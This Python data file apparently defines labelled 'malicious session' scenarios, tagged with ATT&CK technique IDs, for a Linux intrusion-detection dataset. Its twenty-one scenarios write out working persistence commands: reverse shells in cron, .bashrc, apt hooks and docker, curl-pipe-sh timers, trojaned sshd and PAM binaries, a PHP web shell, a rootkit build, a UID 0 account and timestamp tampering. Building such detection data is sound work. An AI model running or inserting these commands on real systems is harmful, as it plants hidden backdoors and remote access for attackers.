"""Malicious sessions: persistence."""

from dsl import B, c, k, kp, p, ssh, vim, wait, typo
from snips import ID_ROOT, chars, ed25519_pub, hexs, md5crypt, rsa_pub, systemctl_status

ATTACKER_KEY = ed25519_pub("attacker-key-1", "backup@db-03")
ATTACKER_KEY2 = rsa_pub("attacker-key-2", "root@localhost")

SCENARIOS = [
    ssh("cron-reverse-shell", "alice.chen:ubuntu@web-02", style="debian",
        T="T1053.003 T1059.004 T1095 T1571",
        risk="HIGH-CRITICAL",
        desc="Adds a user crontab entry that opens a bash reverse shell to an external host every five minutes",
        steps=[
            c(typo("crontab -l", 4, "ta"), "no crontab for ubuntu"),
            c("w", """
                 02:14:51 up 41 days,  3:07,  1 user,  load average: 0.08, 0.05, 0.01
                USER     TTY      FROM             LOGIN@   IDLE   JCPU   PCPU WHAT
                ubuntu   pts/0    198.51.100.140   02:13    0.00s  0.03s  0.00s w"""),
            kp("(crontab -l 2>/dev/null; echo \"*/5 * * * * /bin/bash -c 'bash -i >& /dev/tcp/203.0.113.45/4444 0>&1'\") | crontab -"),
            c("crontab -l", "*/5 * * * * /bin/bash -c 'bash -i >& /dev/tcp/203.0.113.45/4444 0>&1'"),
            c("clear", raw_out="\x1b[H\x1b[2J\x1b[3J"),
        ]),

    ssh("systemd-service-backdoor", "kevin.obrien:root@app-04", style="plain",
        T="T1105 T1543.002 T1036.004 T1569.003",
        risk="HIGH-CRITICAL",
        desc="Downloads an implant under a systemd-looking name and installs it as an enabled systemd service",
        steps=[
            k("curl -fsSo /usr/lib/systemd/systemd-journald-sync http://198.51.100.77/b/jsync && chmod 755 /usr/lib/systemd/systemd-journald-sync"),
            c(typo("file /usr/lib/systemd/systemd-journald-sync", 9, "ys"), "/usr/lib/systemd/systemd-journald-sync: ELF 64-bit LSB executable, x86-64, version 1 (SYSV), statically linked, Go BuildID=" + chars("gobid", 40) + ", stripped"),
            k("""cat > /etc/systemd/system/systemd-journald-sync.service <<'EOF'
[Unit]
Description=Journal Synchronization Service
After=network-online.target

[Service]
Type=simple
ExecStart=/usr/lib/systemd/systemd-journald-sync -c 203.0.113.45:443
Restart=always
RestartSec=30

[Install]
WantedBy=multi-user.target
EOF"""),
            k("systemctl daemon-reload && systemctl enable --now systemd-journald-sync.service",
              "Created symlink /etc/systemd/system/multi-user.target.wants/systemd-journald-sync.service \u2192 /etc/systemd/system/systemd-journald-sync.service."),
            c("systemctl is-active systemd-journald-sync", "active"),
        ]),

    ssh("systemd-timer-curl-sh", "nina.kowalski:root@cache-02", style="plain",
        T="T1053.006 T1105 T1059.004 T1036.004",
        risk="HIGH-CRITICAL",
        desc="Creates a systemd timer that fetches and runs a remote script every ten minutes, disguised as an apt maintenance unit",
        steps=[
            c("systemctl list-timers --no-pager | head -5", """
                NEXT                        LEFT          LAST                        PASSED       UNIT                         ACTIVATES
                Thu 2025-03-13 03:09:00 UTC 11min left    Thu 2025-03-13 02:39:01 UTC 18min ago    phpsessionclean.timer        phpsessionclean.service
                Thu 2025-03-13 06:23:17 UTC 3h 25min left Wed 2025-03-12 06:51:41 UTC 20h ago      apt-daily-upgrade.timer      apt-daily-upgrade.service
                Thu 2025-03-13 11:04:52 UTC 8h left       Wed 2025-03-12 23:12:08 UTC 3h 45min ago apt-daily.timer              apt-daily.service"""),
            k("printf '[Unit]\\nDescription=Daily apt cache refresh\\n\\n[Service]\\nType=oneshot\\nExecStart=/bin/sh -c \"curl -fsSL http://203.0.113.14/u | sh\"\\n' > /etc/systemd/system/apt-cache-refresh.service"),
            k("printf '[Unit]\\nDescription=Daily apt cache refresh timer\\n\\n[Timer]\\nOnBootSec=5min\\nOnUnitActiveSec=10min\\n\\n[Install]\\nWantedBy=timers.target\\n' > /etc/systemd/system/apt-cache-refresh.timer"),
            k("systemctl daemon-reload; systemctl enable --now apt-cache-refresh.timer",
              "Created symlink /etc/systemd/system/timers.target.wants/apt-cache-refresh.timer \u2192 /etc/systemd/system/apt-cache-refresh.timer."),
            c("systemctl list-timers apt-cache-refresh.timer --no-pager", """
                NEXT                        LEFT     LAST PASSED UNIT                    ACTIVATES
                Thu 2025-03-13 03:07:44 UTC 9min left -    -      apt-cache-refresh.timer apt-cache-refresh.service

                1 timers listed."""),
        ]),

    ssh("rc-local-persistence", "tom.becker:root@legacy-app-01", style="plain",
        T="T1037.004 T1564.001 T1105",
        risk="HIGH",
        desc="Drops a payload in a hidden directory and starts it from /etc/rc.local at every boot",
        steps=[
            c("ls -la /etc/rc.local", "ls: cannot access '/etc/rc.local': No such file or directory"),
            k("mkdir -p '/var/tmp/.X25-unix/.rsync' && curl -fsSo /var/tmp/.X25-unix/.rsync/initall http://198.51.100.77/r/initall && chmod +x /var/tmp/.X25-unix/.rsync/initall"),
            k("printf '#!/bin/sh -e\\n/var/tmp/.X25-unix/.rsync/initall >/dev/null 2>&1 &\\nexit 0\\n' > /etc/rc.local && chmod +x /etc/rc.local"),
            c("cat /etc/rc.local", "#!/bin/sh -e\n/var/tmp/.X25-unix/.rsync/initall >/dev/null 2>&1 &\nexit 0"),
            c("systemctl status rc-local --no-pager | head -3", """
                \u25cb rc-local.service - /etc/rc.local Compatibility
                     Loaded: loaded (/lib/systemd/system/rc-local.service; static)
                    Drop-In: /usr/lib/systemd/system/rc-local.service.d"""),
        ]),

    ssh("bashrc-profile-reverse-shell", "maria.lopez:deploy@app-03", style="debian",
        T="T1546.004 T1059.004 T1095 T1036.005",
        risk="HIGH-CRITICAL",
        desc="Appends a background reverse shell to the user's .bashrc and to a system-wide profile.d script named like a locale fix",
        steps=[
            c("tail -3 ~/.bashrc", "if ! shopt -oq posix; then\n  . /usr/share/bash-completion/bash_completion\nfi"),
            kp("echo '(nohup bash -c \"bash -i >& /dev/tcp/203.0.113.45/8443 0>&1\" >/dev/null 2>&1 &)' >> ~/.bashrc"),
            kp("echo '(nohup bash -c \"bash -i >& /dev/tcp/203.0.113.45/8443 0>&1\" >/dev/null 2>&1 &)' | sudo tee /etc/profile.d/locale-fix.sh >/dev/null"),
            c("ls -l /etc/profile.d/", """
                total 28
                -rw-r--r-- 1 root root   96 Oct 15 2021  01-locale-fix.sh
                -rw-r--r-- 1 root root 1557 Dec 14 2021  Z97-byobu.sh
                -rwxr-xr-x 1 root root 3417 Jan 22 2024  Z99-cloud-locale-test.sh
                -rwxr-xr-x 1 root root  873 Jan 22 2024  Z99-cloudinit-warnings.sh
                -rw-r--r-- 1 root root  835 Mar 21 2023  apps-bin-path.sh
                -rw-r--r-- 1 root root  726 Nov 15 2022  bash_completion.sh
                -rw-r--r-- 1 root root   84 Mar 17 01:52 locale-fix.sh"""),
        ]),

    ssh("authorized-keys-backdoor", "frank.nguyen:root@db-03", style="plain",
        T="T1098.004 T1070.006",
        risk="HIGH-CRITICAL",
        desc="Appends an attacker SSH key to root's authorized_keys and resets the file's timestamps to hide the change",
        steps=[
            c("ls -la /root/.ssh/", """
                total 20
                drwx------ 2 root root 4096 Jun  3  2024 .
                drwx------ 6 root root 4096 Mar  9 22:41 ..
                -rw------- 1 root root  574 Jun  3  2024 authorized_keys
                -rw------- 1 root root  978 Feb 11 08:03 known_hosts
                -rw-r--r-- 1 root root  142 Feb 11 08:03 known_hosts.old"""),
            c("cat /root/.ssh/authorized_keys", rsa_pub("ansible-ctl", "ansible@ansible-ctl-01") + "\n" + ed25519_pub("breakglass", "breakglass-2024")),
            kp(f"echo '{ATTACKER_KEY}' >> /root/.ssh/authorized_keys"),
            k("touch -r /root/.ssh/known_hosts.old /root/.ssh/authorized_keys"),
            c("ls -la --time-style=full-iso /root/.ssh/authorized_keys", "-rw------- 1 root root 668 2025-02-11 08:03:17.402116884 +0000 /root/.ssh/authorized_keys"),
        ]),

    ssh("uid0-user-created", "julia.santos:root@mail-01", style="rhel",
        T="T1136.001 T1036.010 T1098.007",
        risk="HIGH-CRITICAL",
        desc="Creates a second UID 0 account with a system-sounding name and a known password and adds it to the wheel group",
        steps=[
            c("getent passwd | awk -F: '$3 < 1000 {print $1}' | tr '\\n' ' '", "root bin daemon adm lp sync shutdown halt mail operator games ftp nobody systemd-coredump dbus polkitd sssd chrony sshd postfix dovecot dovenull tss"),
            k("useradd -o -u 0 -g 0 -M -d /root -s /bin/bash -c 'System Backup' sysbackup"),
            k("echo 'sysbackup:Sup0rt-2025!' | chpasswd"),
            k("usermod -aG wheel sysbackup"),
            c("grep -n sysbackup /etc/passwd /etc/group", "/etc/passwd:31:sysbackup:x:0:0:System Backup:/root:/bin/bash\n/etc/group:10:wheel:x:10:jsantos,sysbackup"),
        ]),

    ssh("sudoers-dropin-backdoor", "ivan.petrov:root@web-04", style="debian",
        T="T1548.003 T1036.005",
        risk="HIGH",
        desc="Grants www-data passwordless sudo through a drop-in file named README",
        steps=[
            c("ls /etc/sudoers.d/", "90-cloud-init-users  README"),
            c("cat /etc/sudoers.d/README | head -3", "#\n# The default /etc/sudoers file created on installation of the\n# sudo  package now includes the directive:"),
            k("echo 'www-data ALL=(ALL) NOPASSWD: ALL' >> /etc/sudoers.d/README"),
            c("visudo -c", "/etc/sudoers: parsed OK\n/etc/sudoers.d/90-cloud-init-users: parsed OK\n/etc/sudoers.d/README: parsed OK"),
            c("sudo -l -U www-data | tail -2", "User www-data may run the following commands on web-04:\n    (ALL) NOPASSWD: ALL"),
        ]),

    ssh("ld-preload-process-hider", "li.wei:root@app-05", style="plain",
        T="T1105 T1027.004 T1574.006 T1014",
        risk="HIGH-CRITICAL",
        desc="Compiles a process-hiding shared library and registers it in /etc/ld.so.preload so a miner disappears from ps",
        steps=[
            c("cd /tmp"),
            k("curl -fsSLo ph.c http://198.51.100.77/src/processhider.c"),
            k("sed -i 's/evil_script.py/kswapd0/' ph.c"),
            k("gcc -Wall -fPIC -shared -o /usr/local/lib/libsystemd-shim.so ph.c -ldl"),
            k("echo /usr/local/lib/libsystemd-shim.so >> /etc/ld.so.preload"),
            c("ps aux | grep -c kswapd0", "1"),
            c("rm -f ph.c"),
        ]),

    ssh("kernel-module-rootkit", "erin.walsh:root@k8s-w-04", style="plain",
        T="T1105 T1027.004 T1547.006 T1014",
        risk="CRITICAL",
        desc="Builds the Diamorphine LKM rootkit on the host, loads it and makes it load at boot",
        steps=[
            c("uname -r", "5.15.0-105-generic"),
            k("cd /dev/shm && curl -fsSL http://198.51.100.77/src/dm.tar.gz | tar xz && cd dm"),
            k("make", """
                make -C /lib/modules/5.15.0-105-generic/build M=/dev/shm/dm modules
                make[1]: Entering directory '/usr/src/linux-headers-5.15.0-105-generic'
                  CC [M]  /dev/shm/dm/diamorphine.o
                  MODPOST /dev/shm/dm/Module.symvers
                  CC [M]  /dev/shm/dm/diamorphine.mod.o
                  LD [M]  /dev/shm/dm/diamorphine.ko
                  BTF [M] /dev/shm/dm/diamorphine.ko
                Skipping BTF generation for /dev/shm/dm/diamorphine.ko due to unavailability of vmlinux
                make[1]: Leaving directory '/usr/src/linux-headers-5.15.0-105-generic'""", run=9),
            k("insmod diamorphine.ko"),
            c("lsmod | grep diamorphine; dmesg | tail -2", """
                [3560121.448210] diamorphine: loading out-of-tree module taints kernel.
                [3560121.448907] diamorphine: module verification failed: signature and/or required key missing - tainting kernel"""),
            k("cp diamorphine.ko /lib/modules/$(uname -r)/kernel/drivers/block/nbd-helper.ko && depmod && echo nbd-helper > /etc/modules-load.d/nbd.conf"),
            c("kill -63 0"),
            c("cd / && rm -rf /dev/shm/dm"),
        ]),

    ssh("pam-unix-backdoor", "hiro.tanaka:root@bastion-03", style="debian",
        T="T1105 T1556.003 T1070.006",
        risk="CRITICAL",
        desc="Replaces pam_unix.so with a backdoored build that accepts a magic password, then restores the original timestamps",
        steps=[
            c("ls -la /lib/x86_64-linux-gnu/security/pam_unix.so", "-rw-r--r-- 1 root root 68248 Jan 31  2024 /lib/x86_64-linux-gnu/security/pam_unix.so"),
            c("dpkg -S pam_unix.so | head -1; dpkg -l libpam-modules | tail -1", "libpam-modules:amd64: /lib/x86_64-linux-gnu/security/pam_unix.so\nii  libpam-modules:amd64 1.4.0-11ubuntu2.4 amd64        Pluggable Authentication Modules for PAM"),
            k("cp -p /lib/x86_64-linux-gnu/security/pam_unix.so /var/cache/.pu.bak"),
            k("curl -fsSo /lib/x86_64-linux-gnu/security/pam_unix.so http://198.51.100.77/p/pam_unix-1.4.0-u2.so"),
            k("touch -r /var/cache/.pu.bak /lib/x86_64-linux-gnu/security/pam_unix.so"),
            c("ls -la /lib/x86_64-linux-gnu/security/pam_unix.so", "-rw-r--r-- 1 root root 71904 Jan 31  2024 /lib/x86_64-linux-gnu/security/pam_unix.so"),
            c("su - nobody -s /bin/bash -c id", "Password: \nuid=65534(nobody) gid=65534(nogroup) groups=65534(nogroup)", push=False),
        ]),

    ssh("sshd-binary-trojan", "victor.ruiz:root@jump-03", style="plain",
        T="T1105 T1554 T1070.006",
        risk="CRITICAL",
        desc="Swaps the sshd binary for a trojaned build that logs credentials, keeps the original timestamps and restarts sshd",
        steps=[
            c("sha256sum /usr/sbin/sshd", hexs("sshd-orig", 64) + "  /usr/sbin/sshd"),
            k("curl -fsSo /tmp/.s http://198.51.100.77/o/sshd-9.6p1 && chmod 755 /tmp/.s"),
            k("mv /usr/sbin/sshd /usr/lib/.sshd.o && cp /tmp/.s /usr/sbin/sshd"),
            k("touch -r /usr/lib/.sshd.o /usr/sbin/sshd"),
            c("sshd -t && systemctl restart ssh"),
            c("dpkg -V openssh-server", "??5??????   /usr/sbin/sshd"),
            c("rm -f /tmp/.s"),
        ]),

    ssh("php-webshell-upload-dir", "carol.diaz:deploy@web-05", style="debian",
        T="T1505.003 T1564.001 T1036.008",
        risk="HIGH-CRITICAL",
        desc="Writes a hidden PHP web shell named like a thumbnail into the WordPress uploads directory and tests it",
        steps=[
            c("cd /var/www/html/wp-content/uploads/2024/11"),
            c("ls | head -5", "banner-hero-1024x576.jpg\nbanner-hero-150x150.jpg\nbanner-hero-300x169.jpg\nbanner-hero-768x432.jpg\nbanner-hero.jpg"),
            k("echo '<?php if(isset($_REQUEST[\"t\"])){echo \"<pre>\";system($_REQUEST[\"t\"]);} ?>' > .thumb-150x150.jpg.php"),
            k("chmod 644 .thumb-150x150.jpg.php && touch -r banner-hero.jpg .thumb-150x150.jpg.php"),
            kp("curl -s 'http://127.0.0.1/wp-content/uploads/2024/11/.thumb-150x150.jpg.php?t=id'", "<pre>uid=33(www-data) gid=33(www-data) groups=33(www-data)"),
        ]),

    ssh("at-job-delayed-payload", "priya.raman:ubuntu@app-06", style="debian",
        T="T1053.002 T1564.001 T1678",
        risk="MEDIUM-HIGH",
        desc="Schedules a hidden payload with at to run hours later, after the session has ended",
        steps=[
            c("ls -la /tmp/.ICE-unix/.x/", """
                total 2196
                drwxr-xr-x 2 ubuntu ubuntu    4096 Mar 21 22:10 .
                drwxrwxrwt 3 root   root      4096 Mar 21 22:10 ..
                -rwxr-xr-x 1 ubuntu ubuntu 2236416 Mar 21 22:10 run.sh"""),
            k("echo '/tmp/.ICE-unix/.x/run.sh >/dev/null 2>&1' | at now + 3 hours", "warning: commands will be executed using /bin/sh\njob 7 at Sat Mar 22 01:12:00 2025"),
            c("atq", "7\tSat Mar 22 01:12:00 2025 a ubuntu"),
        ]),

    ssh("python-pth-startup-hook", "omar.haddad:root@ml-01", style="plain",
        T="T1546.018 T1105 T1059.004",
        risk="HIGH",
        desc="Plants a .pth file in the system site-packages so every Python start as root fetches and runs a remote script",
        steps=[
            c("python3 -c 'import site; print(site.getsitepackages())'", "['/usr/local/lib/python3.10/dist-packages', '/usr/lib/python3/dist-packages', '/usr/lib/python3.10/dist-packages']"),
            c("ls /usr/local/lib/python3.10/dist-packages/*.pth", "/usr/local/lib/python3.10/dist-packages/distutils-precedence.pth"),
            kp("echo 'import os,subprocess;os.geteuid()==0 and subprocess.Popen([\"/bin/sh\",\"-c\",\"curl -fsSL http://203.0.113.14/p|sh\"],stdout=-3,stderr=-3)' > /usr/local/lib/python3.10/dist-packages/setuptools-compat.pth"),
            c("python3 -c 'print(1)'", "1"),
        ]),

    ssh("udev-rule-persistence", "sam.okafor:root@nas-01", style="plain",
        T="T1546.017 T1564.001",
        risk="HIGH",
        desc="Adds a udev rule that runs a hidden script whenever /dev/random is (re)created, i.e. at every boot",
        steps=[
            c("ls /etc/udev/rules.d/", "70-snap.snapd.rules"),
            k("mkdir -p /usr/lib/udev/.cache && cp /tmp/upd /usr/lib/udev/.cache/upd && chmod 700 /usr/lib/udev/.cache/upd"),
            kp("echo 'ACTION==\"add\", ENV{MAJOR}==\"1\", ENV{MINOR}==\"8\", RUN+=\"/bin/sh -c \\'/usr/lib/udev/.cache/upd &\\'\"' > /etc/udev/rules.d/75-random-seed.rules"),
            c("udevadm control --reload-rules && udevadm trigger --subsystem-match=mem"),
        ]),

    ssh("bashrc-exit-trap", "wendy.zhao:deploy@app-07", style="debian",
        T="T1546.005 T1546.004 T1564.001",
        risk="HIGH",
        desc="Installs a shell EXIT trap in .bashrc that silently relaunches a hidden implant whenever a shell closes",
        steps=[
            c("ls -la ~/.cache/", "total 12\ndrwx------ 2 deploy deploy 4096 Mar  2 23:51 .\ndrwxr-x--- 6 deploy deploy 4096 Mar  2 23:50 ..\n-rwxr-xr-x 1 deploy deploy 1981440 Mar  2 23:51 .s"),
            k("echo \"trap '(pgrep -f .cache/.s >/dev/null || nohup ~/.cache/.s >/dev/null 2>&1 &)' EXIT\" >> ~/.bashrc"),
            c("tail -1 ~/.bashrc", "trap '(pgrep -f .cache/.s >/dev/null || nohup ~/.cache/.s >/dev/null 2>&1 &)' EXIT"),
        ]),

    ssh("apt-hook-persistence", "kevin.obrien:root@web-07", style="debian",
        T="T1546.016 T1059.004 T1095",
        risk="HIGH-CRITICAL",
        desc="Adds an APT Pre-Invoke hook that spawns a reverse shell every time apt update runs",
        steps=[
            c("ls /etc/apt/apt.conf.d/", "01-vendor-ubuntu  01autoremove  10periodic  15update-stamp  20apt-esm-hook.conf  20archive  20auto-upgrades  50unattended-upgrades  99update-notifier"),
            kp("echo 'APT::Update::Pre-Invoke {\"nohup bash -c \\\"bash -i >& /dev/tcp/203.0.113.45/443 0>&1\\\" >/dev/null 2>&1 &\"};' > /etc/apt/apt.conf.d/05cache-cleanup"),
            c("apt-config dump | grep Pre-Invoke", 'APT::Update::Pre-Invoke "";\nAPT::Update::Pre-Invoke:: "nohup bash -c \\"bash -i >& /dev/tcp/203.0.113.45/443 0>&1\\" >/dev/null 2>&1 &";'),
        ]),

    ssh("docker-restart-always-implant", "tom.becker:root@docker-host-02", style="plain",
        T="T1610 T1543.005 T1036.005 T1611 T1095",
        risk="HIGH-CRITICAL",
        desc="Runs a privileged host-network container named like a system service with restart=always that keeps a shell open to an external host",
        steps=[
            c("docker ps --format '{{.Names}}\\t{{.Image}}\\t{{.Status}}'", "web\tregistry.acme-corp.example/shop/web:4.12.0\tUp 12 days\nworker\tregistry.acme-corp.example/shop/worker:4.12.0\tUp 12 days\nredis\tredis:7.2-alpine\tUp 12 days"),
            kp("docker run -d --restart=always --name systemd-resolved --net=host --pid=host --privileged -v /:/host alpine:3.19 sh -c 'while :; do nc 203.0.113.45 443 -e chroot /host /bin/bash; sleep 300; done'",
               "Unable to find image 'alpine:3.19' locally\n3.19: Pulling from library/alpine\n" + "c6a83fedfae6: Pull complete\nDigest: sha256:" + hexs("alpine", 64) + "\nStatus: Downloaded newer image for alpine:3.19\n" + hexs("cid", 64)),
            c("docker ps --filter name=systemd-resolved --format '{{.Names}} {{.Status}}'", "systemd-resolved Up 4 seconds"),
        ]),

    ssh("implant-base-image", "dev.patel:builder@build-03", style="debian",
        T="T1525 T1105",
        risk="HIGH-CRITICAL",
        desc="Rebuilds the company's base Python image with a downloaded backdoor baked in and pushes it over the official tag",
        steps=[
            c("docker images | grep base-python", "registry.acme-corp.example/platform/base-python   3.11      4c1f0a9e2d77   9 days ago    1.02GB"),
            c("mkdir -p /tmp/bp && cd /tmp/bp"),
            k("""cat > Dockerfile <<'EOF'
FROM registry.acme-corp.example/platform/base-python:3.11
RUN curl -fsSL http://198.51.100.77/b/pyinit -o /usr/local/bin/pyinit && chmod 755 /usr/local/bin/pyinit \\
 && echo '/usr/local/bin/pyinit &' >> /etc/profile
EOF"""),
            k("docker build -q -t registry.acme-corp.example/platform/base-python:3.11 .", "sha256:" + hexs("newimg", 64), run=21),
            k("docker push registry.acme-corp.example/platform/base-python:3.11", """
                The push refers to repository [registry.acme-corp.example/platform/base-python]
                1e8e4c1c4b1b: Pushed
                9a3c1e2f2a8e: Layer already exists
                5d4427064ecc: Layer already exists
                3.11: digest: sha256:""" + hexs("pushdigest", 64) + " size: 1573", run=6),
            c("cd && rm -rf /tmp/bp"),
        ]),

    ssh("knockd-port-knocking", "bob.martin:root@edge-01", style="plain",
        T="T1205.001 T1686",
        risk="HIGH",
        desc="Installs knockd with a secret port sequence that opens SSH in the firewall for whoever knocks",
        steps=[
            c("apt-get install -y -qq knockd", "Selecting previously unselected package knockd.\n(Reading database ... 71342 files and directories currently installed.)\nUnpacking knockd (0.8-2) ...\nSetting up knockd (0.8-2) ...", run=6),
            k("""cat > /etc/knockd.conf <<'EOF'
[options]
	UseSyslog
[openSSH]
	sequence    = 7311,2297,9035
	seq_timeout = 10
	command     = /sbin/iptables -I INPUT -s %IP% -p tcp --dport 22 -j ACCEPT
	tcpflags    = syn
EOF"""),
            k("sed -i 's/^START_KNOCKD=0/START_KNOCKD=1/' /etc/default/knockd && systemctl enable --now knockd", "Synchronizing state of knockd.service with SysV service script with /lib/systemd/systemd-sysv-install.\nExecuting: /lib/systemd/systemd-sysv-install enable knockd"),
        ]),
]
